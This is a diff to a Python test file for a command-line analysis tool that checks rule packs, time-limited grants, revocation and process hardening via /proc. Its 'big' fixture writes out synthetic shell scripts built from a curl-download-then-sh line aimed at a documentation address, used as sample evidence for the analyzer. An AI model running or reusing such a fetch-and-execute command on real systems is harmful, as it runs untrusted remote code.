@@ -3,6 +3,7 @@
 
 usage: tests/cli/pack.py TOCSIN ENTITLE [NAME...]   (from the root of the source)"""
 
+import hashlib
 import json
 import os
 import pathlib
@@ -51,6 +52,8 @@ def big(person):
     """Evidence that takes a while, whatever the machine."""
     line = "curl -s http://198.51.100.%d/%d -o /tmp/f%d && sh /tmp/f%d | sed 's/a/b/' > /var/log/x%d\n"
     folder = person.folder / "big"
+    if folder.exists():
+        return folder
     folder.mkdir()
     for number in range(40):
         text = "#!/bin/sh\n" + "".join(line % (i % 250, i, i, i, number) for i in range(20000))
@@ -120,12 +123,13 @@ def under_a_grant_it_finds_what_it_looks_for_and_the_report_names_it(person):
     report = json.loads(done.out)
     (pack,) = report["tocsin"]["packs"]
     assert (pack["name"], pack["version"], pack["rules"]) == ("sample-pack", "1.0", 2)
-    import hashlib
     assert pack["sha256"] == hashlib.sha256(SAMPLE.read_bytes()).hexdigest()
     assert pack["grant"] == "00112233445566778899aabbccddeeff"
     assert [finding["rule"] for finding in report["findings"]] == ["capability/sample-pack/sample-drop"]
     allowed, ended = person.entries()[-2:]
     assert (allowed["event"], ended["event"]) == ("allowed", "done"), (allowed, ended)
+    rules = hashlib.sha256((ROOT / "content/grant.datalog").read_bytes()).hexdigest()
+    assert allowed["policy_sha256"] == ended["policy_sha256"] == rules, (allowed, ended)
     assert allowed["operation"] == ended["operation"] == "model.pack" and ended["decision"] == allowed["sequence"]
     assert ended["object_sha256"] == hashlib.sha256(done.out.encode()).hexdigest()
     for form, words in (("text", "by pack sample-pack"), ("markdown", "by pack"), ("html", "by pack")):
@@ -207,11 +211,7 @@ def a_grant_that_ended_is_refused(person):
 def cut(person, change, status=2):
     """An analysis that `change` cuts: (its refusal, how long after)."""
     process = person.start("analyze", "--pack", "sample-pack", "--format", "json", big(person))
-    deadline = time.monotonic() + 30
-    while not any(b"tocsin-lent" in os.readlink(f"/proc/{process.pid}/fd/{fd}").encode()
-                  for fd in descriptors(process.pid)):
-        assert process.poll() is None and time.monotonic() < deadline
-        time.sleep(0.02)
+    wait_for_child(process, "tocsin-examine")  # which is handed the pack
     time.sleep(0.5)
     assert process.poll() is None, process.communicate()
     change()
@@ -222,15 +222,25 @@ def cut(person, change, status=2):
     return json.loads(err.splitlines()[-1])["refused"], took
 
 
-def descriptors(pid):
-    found = []
-    for fd in os.listdir(f"/proc/{pid}/fd"):
+def lent_by(process):
+    """The path of what is lent, as root sees it; others of the account cannot even list it."""
+    folder = pathlib.Path(f"/proc/{process.pid}/fd")
+    if os.geteuid() != 0:
         try:
-            os.readlink(f"/proc/{pid}/fd/{fd}")
-            found.append(fd)
-        except OSError:
-            pass
-    return found
+            list(folder.iterdir())
+        except PermissionError:
+            return None
+        raise AssertionError("others of the account see what the process has open")
+    deadline = time.monotonic() + 20
+    while time.monotonic() < deadline:
+        for file in folder.iterdir():
+            try:
+                if "tocsin-lent" in os.readlink(file):
+                    return file
+            except OSError:
+                pass
+        time.sleep(0.02)
+    raise AssertionError("nothing is lent")
 
 
 @case
@@ -247,11 +257,11 @@ def a_revocation_cuts_what_runs_within_a_second(person):
 
 @case
 def the_end_of_a_grant_cuts_what_runs(person):
-    ready(person, 4)
-    began = time.monotonic()
-    said, _ = cut(person, lambda: None)
+    big(person)  # which takes its time, and the grant's is short
+    ready(person, 12)
+    said, took = cut(person, lambda: None)
     assert (said["reason"], said["rule"]) == ("expired", "grant-has-not-ended"), said
-    assert time.monotonic() - began < 20
+    assert took < 13, took
 
 
 @case
@@ -300,12 +310,8 @@ def the_lender_is_locked_and_shut_and_what_it_lends_cannot_be_written(person):
     ready(person)
     process = person.start("analyze", "--pack", "sample-pack", big(person))
     holder = wait_for_child(process, "tocsin-holder")
-    deadline = time.monotonic() + 20
-    lent = None
-    while lent is None and time.monotonic() < deadline:
-        lent = next((fd for fd in descriptors(process.pid)
-                     if "tocsin-lent" in os.readlink(f"/proc/{process.pid}/fd/{fd}")), None)
-        time.sleep(0.02)
+    wait_for_child(process, "tocsin-examine")
+    lent = lent_by(process)
     time.sleep(0.5)
     status = dict(line.split(":", 1) for line in pathlib.Path(f"/proc/{holder}/status").read_text().splitlines())
     assert int(status["VmLck"].split()[0]) > 0 or HAS_HOOKS, status["VmLck"]  # a sanitizer locks nothing
@@ -314,13 +320,14 @@ def the_lender_is_locked_and_shut_and_what_it_lends_cannot_be_written(person):
     assert any(line.startswith("Max core file size") and line.split()[4] == "0" for line in limits.splitlines())
     # Not dumpable: its files in /proc belong to root, whoever it runs as.
     assert os.stat(f"/proc/{holder}/mem").st_uid == 0 and os.stat(f"/proc/{process.pid}/mem").st_uid == 0
-    try:
-        with open(f"/proc/{process.pid}/fd/{lent}", "r+b") as file:
-            file.write(b"x")
-            file.flush()
-        raise AssertionError("what is lent was written to")
-    except PermissionError:
-        pass
+    if lent is not None:
+        try:
+            with open(lent, "r+b") as file:
+                file.write(b"x")
+                file.flush()
+            raise AssertionError("what is lent was written to")
+        except PermissionError:
+            pass
     process.send_signal(signal.SIGTERM)
     process.communicate(timeout=60)
 
